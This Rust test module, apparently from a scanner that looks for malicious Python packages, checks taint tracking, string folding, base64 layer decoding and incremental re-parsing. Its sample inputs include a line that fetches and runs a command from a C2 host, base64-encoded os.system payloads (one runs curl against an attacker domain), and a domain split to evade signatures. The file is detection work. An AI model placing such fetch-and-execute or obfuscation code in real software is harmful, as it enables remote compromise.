        let a = analyze(
            "import requests\nimport os\ncmd = requests.get('http://c2.evil/t').text\nos.system(cmd)\n",
        );
        let taint = a.taint.as_ref().expect("taint summary");
        assert_eq!(taint.flows.len(), 1);
        assert_eq!(taint.flows[0].sink, "os.system");
        // The config lever skips the stage entirely.
        let off = FileAnalysis::build(
            &entry("mod.py", "x = 1\n"),
            None,
            &ArtifactConfig {
                dataflow: false,
                ..ArtifactConfig::default()
            },
        );
        assert!(off.taint.is_none());
    }

    #[test]
    fn folded_constants_become_scannable_layers() {
        let rules = yara_engine::compile("rule c2 { strings: $a = \"bexlum.top\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let a = FileAnalysis::build(
            &entry("mod.py", "host = 'bex' + 'lum' + '.top'\n"),
            Some(&scanner),
            &ArtifactConfig::default(),
        );
        // No surface hit: the atom is split across three literals.
        assert!(a.yara_hits.as_ref().expect("hits").is_empty());
        // The folded layer rebuilds it and the scanner sees it.
        assert!(a
            .layers
            .iter()
            .any(|l| l.encoding == LayerEncoding::Folded && l.data == b"bexlum.top"));
        assert!(a.layer_hits.iter().any(|h| !h.is_empty()));
    }

    #[test]
    fn a_folded_payload_decodes_within_the_depth_bound() {
        // Neither half decodes alone; the folded whole decodes one level
        // below its folded layer, at depth 2.
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let (head, tail) = payload.split_at(payload.len() / 2 - 1);
        let code = format!("x = '{head}' + '{tail}'\n");
        let layers = |max_decode_depth| {
            let config = ArtifactConfig {
                max_decode_depth,
                dataflow: true,
            };
            let a = FileAnalysis::build(&entry("mod.py", &code), None, &config);
            a.layers
                .iter()
                .map(|l| (l.encoding, l.depth))
                .collect::<Vec<_>>()
        };
        let folded = (LayerEncoding::Folded, 1);
        assert_eq!(layers(0), [folded], "depth 0 still folds");
        assert_eq!(layers(1), [folded], "a depth-2 layer at depth 1");
        assert_eq!(layers(2), [(LayerEncoding::Base64, 2), folded]);
    }

    #[test]
    fn folded_constant_identical_to_a_surface_literal_is_skipped() {
        // `str(x)` of a constant folds to the same text the literal
        // table already carries — no synthetic layer.
        let a = analyze("x = 'plain-string-value'\ny = str(x)\n");
        assert!(
            a.layers.iter().all(|l| l.encoding != LayerEncoding::Folded),
            "unexpected folded layers: {:?}",
            a.layers
        );
    }

    /// Field-by-field artifact equality: the splice contract is that a
    /// spliced artifact is indistinguishable from a full build.
    fn assert_identical(a: &FileAnalysis, b: &FileAnalysis) {
        assert_eq!(a.digest, b.digest);
        assert_eq!(a.is_python, b.is_python);
        assert_eq!(a.bytes, b.bytes);
        assert_eq!(a.cut_points, b.cut_points, "cut points diverge");
        assert_eq!(
            a.module.as_ref().map(|m| m.get()),
            b.module.as_ref().map(|m| m.get()),
            "modules diverge"
        );
        assert_eq!(a.strings, b.strings, "string tables diverge");
        assert_eq!(a.layers, b.layers, "decoded layers diverge");
        assert_eq!(a.yara_hits, b.yara_hits, "surface hits diverge");
        assert_eq!(a.layer_hits, b.layer_hits, "layer hits diverge");
        assert_eq!(a.taint, b.taint, "taint summaries diverge");
        assert_eq!(a.semgrep, b.semgrep, "Semgrep matches diverge");
    }

    /// Attempts a splice of `new_code` onto `sibling` and — when the
    /// splice engages — checks it against a full build of the new
    /// content. Returns the new content's artifact, the spliced one when
    /// there is one, and whether the splice engaged.
    fn splice_onto(
        sibling: &FileAnalysis,
        new_code: &str,
        scanner: Option<&Scanner<'_>>,
    ) -> (FileAnalysis, bool) {
        let cfg = ArtifactConfig::default();
        let new_entry = entry("mod.py", new_code);
        let full = with_matches(FileAnalysis::build(&new_entry, scanner, &cfg), None);
        match FileAnalysis::build_spliced(&new_entry, sibling, scanner, &cfg) {
            Some(spliced) => {
                let edit = spliced.edit;
                let analysis = with_matches(spliced.analysis, Some((sibling, &edit)));
                assert_identical(&analysis, &full);
                assert!(spliced.relexed_bytes <= new_code.len() as u64);
                (analysis, true)
            }
            None => (full, false),
        }
    }

    /// [`splice_onto`] a freshly built sibling; whether it engaged.
    fn splice_vs_full(old_code: &str, new_code: &str, scanner: Option<&Scanner<'_>>) -> bool {
        let sibling = FileAnalysis::build(
            &entry("mod.py", old_code),
            scanner,
            &ArtifactConfig::default(),
        );
        splice_onto(&with_matches(sibling, None), new_code, scanner).1
    }

    /// The spliced artifact of an edit that must engage.
    fn spliced(old_code: &str, new_code: &str) -> FileAnalysis {
        let (analysis, engaged) = splice_onto(&analyze(old_code), new_code, None);
        assert!(engaged, "fell back: {new_code:?}");
        analysis
    }

    const SPLICE_BASE: &str = "import os\nimport base64\n\nA = 'alpha'\nB = 'beta'\n\ndef handler(arg):\n    data = arg.strip()\n    return data\n\nif A:\n    os.system('echo hi')\n\nC = A + B\nprint(C)\nD = 'delta'\nE2 = len(D)\nF = D + A\nG = C + D\nH = F + G\nprint(H)\n";

    #[test]
    fn splice_reproduces_full_build_on_one_line_bump() {
        let bumped = SPLICE_BASE.replace("B = 'beta'", "B = 'beta-2'");
        assert!(splice_vs_full(SPLICE_BASE, &bumped, None), "bump fell back");
    }

    #[test]
    fn splice_handles_first_line_and_eof_edits() {
        // First line: the window starts at offset 0 with an empty prefix.
        let first = SPLICE_BASE.replace("import os", "import os.path");
        assert!(splice_vs_full(SPLICE_BASE, &first, None));
        // Last line: no boundary after the edit, window runs to EOF.
        let last = SPLICE_BASE.replace("print(C)", "print(C, B)");
        assert!(splice_vs_full(SPLICE_BASE, &last, None));
    }

    #[test]
    fn splice_handles_insertions_and_deletions() {
        // Pure insertion at a statement boundary.
        let inserted = SPLICE_BASE.replace("C = A + B\n", "C = A + B\nD = C * 2\n");
        assert!(splice_vs_full(SPLICE_BASE, &inserted, None));
        // Whole-line deletion: the suffix shifts up by one line.
        let deleted = SPLICE_BASE.replace("B = 'beta'\n", "");
        assert!(splice_vs_full(SPLICE_BASE, &deleted, None));
    }

    /// An insertion whose first statement only binds a literal and whose
    /// last one opens a flow: the taint carry reads every statement the
    /// edit inserted, so the spliced summary holds the new flow.
    #[test]
    fn splice_reads_every_statement_an_edit_inserts() {
        let flow = "Z = 'z'\nos.system(input())\n";
        let inserted = SPLICE_BASE.replace("D = 'delta'\n", &format!("{flow}D = 'delta'\n"));
        assert!(splice_vs_full(SPLICE_BASE, &inserted, None));
        assert_eq!(analyze(&inserted).taint.expect("taint").flows.len(), 1);
    }

    #[test]
    fn splice_strips_the_synthetic_newline_of_a_comment_tail_window() {
        // Replacing a statement with a comment line makes the relexed
        // window end in a comment: its close-out emits a width-zero
        // NEWLINE the full lexer would not have mid-stream.
        let commented = SPLICE_BASE.replace("C = A + B", "# patched out");
        assert!(splice_vs_full(SPLICE_BASE, &commented, None));
    }

    #[test]
    fn splice_handles_statement_straddling_edits() {
        // The edit replaces the tail of a suite AND the statement after
        // it — the window must widen to cover both.
        let straddle = SPLICE_BASE.replace(
            "    return data\n\nif A:",
            "    return data.lower()\n\nwhile A:",
        );
        assert!(splice_vs_full(SPLICE_BASE, &straddle, None));
        // Indent-level change inside the suite.
        let reindent = SPLICE_BASE.replace(
            "    data = arg.strip()\n",
            "    if arg:\n        data = arg.strip()\n",
        );
        assert!(splice_vs_full(SPLICE_BASE, &reindent, None));
    }

    #[test]
    fn splice_recomputes_layers_and_hits_for_obfuscation_mutants() {
        let rules = yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
            .expect("compile");
        let scanner = Scanner::new(&rules);
        let v1 = digest::base64::encode(b"import os;os.system('id')");
        let v2 = digest::base64::encode(b"import os;os.system('curl http://bexlum.top')");
        let filler: String = (0..8).map(|i| format!("pad_{i} = {i} * {i}\n")).collect();
        let old_code =
            format!("import base64\n{filler}blob = '{v1}'\nrun(base64.b64decode(blob))\n");
        let new_code = old_code.replace(&v1, &v2);
        assert!(
            splice_vs_full(&old_code, &new_code, Some(&scanner)),
            "payload swap fell back"
        );
    }

    /// A top-level anonymous indent block (an unexpected indent the
    /// tolerant parser keeps as a keyword-less `Block`) in front of
    /// ordinary statements. The block takes its INDENT's line, so the
    /// donor statements around a window are selected by line as in any
    /// other file.
    const ANON_BASE: &str = "import os\nimport base64\n\n    k0 = 'pad-0'\n    k1 = k0 + 'pad-1'\n    k2 = k1 + 'pad-2'\n    k3 = k2 + 'pad-3'\n    k4 = k3 + 'pad-4'\n    os.system(k4)\nA = 'alpha'\nB = 'beta'\nC = A + B\nprint(C)\nD = 'delta'\nE2 = len(D)\nprint(E2)\n";

    #[test]
    fn splice_after_an_anonymous_block() {
        let module = analyze(ANON_BASE).module.expect("python");
        let m = module.get();
        let block = m.stmt(m.body[2]);
        assert!(matches!(block, Stmt::Block { keyword, .. } if keyword.as_str().is_empty()));
        assert_eq!(m.line(block), 4);
        for edited in [
            ANON_BASE.replace("B = 'beta'", "B = 'beta-2'"),
            ANON_BASE.replace("C = A + B\n", "C = A + B\nZ = C * 2\n"),
            ANON_BASE.replace("print(E2)", "print(E2, B)"),
        ] {
            spliced(ANON_BASE, &edited);
        }
        // The statement behind the block follows its DEDENT and is no cut
        // point, so the window reaches back over the whole block, past
        // half the file, and the build falls back.
        let behind = ANON_BASE.replace("A = 'alpha'", "A = 'alpha-2'");
        assert!(!splice_vs_full(ANON_BASE, &behind, None));
    }

    /// A line that grows and then shrinks ahead of a suffix holding every
    /// shape that carries a span: each splice copies the suffix's nodes
    /// the byte delta further on, and the result is a full build's module,
    /// every statement rendering and reporting its line as there.
    #[test]
    fn a_length_changing_edit_moves_every_span_of_the_suffix() {
        let suffix = "import os.path as osp, base64\nfrom subprocess import run as r\n\ndef handler(arg, *rest, key=None):\n    for k, v in arg.items():\n        print(k, v)\n    return arg\n\nclass Installer(setuptools.Command, object):\n    with open(osp.join('a', 'b')) as fh:\n        data = fh.read()\n\nX = 'tab\\there'\nY = 'http://' 'evil.example'\nr(Y, shell=True)\n";
        let base = format!("A = 'alpha'\nB = 1\n{suffix}");
        let grown = base.replace("B = 1", "B = 'a much longer value'\nB2 = B");
        let shrunk = grown.replace("B = 'a much longer value'\nB2 = B", "B=0");
        let mut donor = analyze(&base);
        for code in [grown, shrunk] {
            let (next, engaged) = splice_onto(&donor, &code, None);
            assert!(engaged, "fell back: {code:?}");
            let full = analyze(&code);
            let (a, b) = (next.module.as_ref(), full.module.as_ref());
            let (a, b) = (a.expect("python").get(), b.expect("python").get());
            let (sa, sb) = (a.statements(), b.statements());
            assert_eq!(sa.len(), sb.len());
            assert!(sa.len() >= 14, "{}", sa.len());
            for (x, y) in sa.iter().zip(sb) {
                assert_eq!(x.to_text(a), y.to_text(b));
                assert_eq!(a.line(x), b.line(y), "{}", y.to_text(b));
            }
            donor = next;
        }
    }

    /// The offsets of an artifact's cut points.
    fn cuts_at(a: &FileAnalysis) -> Vec<usize> {
        a.cut_points.iter().map(|c| c.at).collect()
    }

    #[test]
    fn junction_at_the_window_start() {
        let at = |needle: &str| SPLICE_BASE.find(needle).expect("needle");
        let base = analyze(SPLICE_BASE);
        assert!(cuts_at(&base).contains(&at("A = 'alpha'")));
        // A comment line in front: the window's first token is a comment,
        // so neither it nor the statement behind it is a cut point.
        let a = spliced(
            SPLICE_BASE,
            &SPLICE_BASE.replace("A = 'alpha'", "# note\nA = 'alpha'"),
        );
        assert!(!cuts_at(&a).contains(&at("A = 'alpha'")));
        assert!(!cuts_at(&a).contains(&(at("A = 'alpha'") + "# note\n".len())));
        // An indented line: INDENT stands between NEWLINE and token.
        let a = spliced(
            SPLICE_BASE,
            &SPLICE_BASE.replace("A = 'alpha'", "    Q = 'alpha'"),
        );
        assert!(!cuts_at(&a).contains(&(at("A = 'alpha'") + 4)));
        // Blank lines: the cut moves behind them, its NEWLINE stays put.
        let a = spliced(
            SPLICE_BASE,
            &SPLICE_BASE.replace("A = 'alpha'", "\n\nA = 'alpha'"),
        );
        let moved = a.cut_points.iter().find(|c| c.at == at("A = 'alpha'") + 2);
        assert_eq!(
            moved.map(|c| c.newline_end),
            Some(at("\nA = 'alpha'")),
            "cut behind the blank lines"
        );
    }

    #[test]
    fn junction_at_the_window_end() {
        let at = |needle: &str| SPLICE_BASE.find(needle).expect("needle");
        // The window ends in a DEDENT: what follows was a cut point and
        // no longer is.
        let suite = SPLICE_BASE.replace("F = D + A\n", "if D:\n    pass\n");
        assert!(cuts_at(&analyze(SPLICE_BASE)).contains(&at("G = C + D")));
        let a = spliced(SPLICE_BASE, &suite);
        assert!(!cuts_at(&a).contains(&suite.find("G = C + D").expect("G")));
        // An edit that runs to EOF: no cut point behind it, no suffix.
        let a = spliced(
            SPLICE_BASE,
            &SPLICE_BASE.replace("print(H)\n", "print(H, 1)\nZ = 'omega'\n"),
        );
        assert_eq!(a.strings.literals().last(), Some("omega"));
    }

    #[test]
    fn junction_of_an_empty_window() {
        // Whole statements deleted: the window relexes to nothing and the
        // two stand-ins meet — behind a prefix...
        let a = spliced(SPLICE_BASE, &SPLICE_BASE.replace("B = 'beta'\n", ""));
        assert_eq!(
            a.cut_points.len(),
            analyze(SPLICE_BASE).cut_points.len() - 1
        );
        // ...and at offset 0, where nothing stands in front.
        let longer = format!("x = 1\n{SPLICE_BASE}");
        let a = spliced(&longer, SPLICE_BASE);
        assert_eq!(cuts_at(&a), cuts_at(&analyze(SPLICE_BASE)));
        // An insertion exactly at a cut point: the old window is empty.
        let a = spliced(
            SPLICE_BASE,
            &SPLICE_BASE.replace("print(C)\n", "Z = 0\nprint(C)\n"),
        );
        assert_eq!(
            a.cut_points.len(),
            analyze(SPLICE_BASE).cut_points.len() + 1
        );
        // An edit at offset 0.
        spliced(
            SPLICE_BASE,
            &SPLICE_BASE.replacen("import os", "from os import path", 1),
        );
    }

    #[test]
    fn spliced_string_table_keeps_first_seen_order() {
        assert_eq!(
            analyze(SPLICE_BASE).strings.literals().collect::<Vec<_>>(),
            ["alpha", "beta", "echo hi", "delta"]
        );
        // 'beta' occurred only inside the old window; 'delta' is first
        // seen in the suffix, behind the window's new literal.
        let a = spliced(
            SPLICE_BASE,
            &SPLICE_BASE.replace("B = 'beta'", "B = 'delta' + 'b'"),
        );
        let values = |a: &FileAnalysis| a.strings.literals().map(str::to_owned).collect::<Vec<_>>();
        assert_eq!(values(&a), ["alpha", "delta", "b", "echo hi"]);
        let a = spliced(SPLICE_BASE, &SPLICE_BASE.replace("B = 'beta'", "B = 2"));
        assert_eq!(values(&a), ["alpha", "echo hi", "delta"]);
    }

    /// Fifty one-line releases, each spliced onto the artifact the
    /// previous splice produced: the donor is never rebuilt, so an error
    /// in what a splice leaves for the next one would accumulate.
    #[test]
    fn fifty_generation_chain_never_rebuilds_the_donor() {
        let mut code = SPLICE_BASE.to_owned();
        let mut donor = analyze(&code);
        for generation in 1..=50 {
            code = match generation % 5 {
                0 => code.replacen("print(C)\n", &format!("R{generation} = 'r'\nprint(C)\n"), 1),
                1 => code.replacen("import base64\n", "import base64\n\n", 1),
                2 => code.replacen("'echo hi", "'echo hi!", 1),
                3 => code.replacen("print(H", &format!("print(H, {generation}"), 1),
                _ => code.replacen("A = 'alpha", "A = 'alpha+", 1),
            };
            let (next, engaged) = splice_onto(&donor, &code, None);
            assert!(engaged, "generation {generation} fell back");
            donor = next;
        }
    }

    #[test]
    fn splice_falls_back_when_not_provably_clean() {
        let cfg = ArtifactConfig::default();
        let sibling = analyze(SPLICE_BASE);
        // An edit that opens a bracket leaves the relexed window without
        // a statement boundary at its end.
        let unclosed = SPLICE_BASE.replace("C = A + B", "C = (A,");
        assert!(
            FileAnalysis::build_spliced(&entry("mod.py", &unclosed), &sibling, None, &cfg)
                .is_none(),
            "unclosed bracket must fall back"
        );
        // Rewriting more than half the file fails the profitability gate.
        let rewrite = format!("Z = 0\n{}", "Y = 1\n".repeat(40));
        assert!(
            FileAnalysis::build_spliced(&entry("mod.py", &rewrite), &sibling, None, &cfg).is_none(),
            "wholesale rewrite must fall back"
        );
        // Non-Python entries never splice.
        assert!(FileAnalysis::build_spliced(
            &entry("PKG-INFO", "Version: 2\n"),
            &sibling,
            None,
            &cfg
        )
        .is_none());
        // Invalid UTF-8 on either side falls back (spans index decoded
        // text, and lossy decoding changes byte widths).
        let bad = FileEntry::new("mod.py", vec![0xff, 0xfe, b'\n']);
        assert!(FileAnalysis::build_spliced(&bad, &sibling, None, &cfg).is_none());
        let bad_sibling = FileAnalysis::build(&bad, None, &cfg);
        assert!(FileAnalysis::build_spliced(
            &entry("mod.py", SPLICE_BASE),
            &bad_sibling,
            None,
            &cfg
        )
        .is_none());
    }

    struct XorShift(u64);

    impl XorShift {
        fn next(&mut self) -> u64 {
            let mut x = self.0;
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            self.0 = x;
            x
        }

        fn below(&mut self, n: usize) -> usize {
            (self.next() % n as u64) as usize
        }
    }

    /// The differential property at the heart of the feature: over a
    /// stream of random edits (replacements, insertions, deletions —
    /// including ones that land mid-token, mid-string or mid-suite),
    /// every engaged splice must reproduce the full build exactly, and
    /// enough edits must engage for the fast path to matter.
    #[test]
    fn splice_differential_over_random_edit_stream() {
        let fragments: &[&str] = &[
            "",
            "x9 = 1\n",
            "zz",
            "'s'",
            "  ",
            "# note\n",
            "q = base64.b64decode(A)\n",
            "(",
            "\n",
            "def g():\n    pass\n",
            "'bexlum",
        ];
        let mut rng = XorShift(0x1234_5678_9abc_def0);
        let mut engaged = 0usize;
        let mut current = SPLICE_BASE.to_owned();
        // The donor is whatever the last round produced — the spliced
        // artifact whenever a splice engaged — so chains of splices are
        // compared with a full build at every link.
        let mut donor = analyze(&current);
        for round in 0..300 {
            let pos = rng.below(current.len());
            let cut = rng.below(12).min(current.len() - pos);
            let frag = fragments[rng.below(fragments.len())];
            if !current.is_char_boundary(pos) || !current.is_char_boundary(pos + cut) {
                continue;
            }
            let edited = format!("{}{}{}", &current[..pos], frag, &current[pos + cut..]);
            if edited == current {
                continue;
            }
            let (next, spliced) = splice_onto(&donor, &edited, None);
            engaged += usize::from(spliced);
            // Chain versions like a registry stream, resetting whenever
            // the mutations have shredded the file into noise.
            (current, donor) = if round % 7 == 6 {
                (SPLICE_BASE.to_owned(), analyze(SPLICE_BASE))
            } else {
                (edited, next)
            };
        }
        assert!(
            engaged >= 40,
            "splice engaged on only {engaged}/300 random edits"
        );
    }

    #[test]
    fn artifact_is_deterministic_for_identical_content() {
        let code = format!(
            "blob = '{}'\nprint('x')\n",
            digest::base64::encode(b"import os;os.system('id')")
        );
        let a = analyze(&code);
        let b = analyze(&code);
        assert_eq!(a.digest, b.digest);
        assert_eq!(a.layers, b.layers);
        assert_eq!(a.strings, b.strings);
        assert!(a.stored_bytes() > 0);
        assert_eq!(a.stored_bytes(), b.stored_bytes());
    }
}
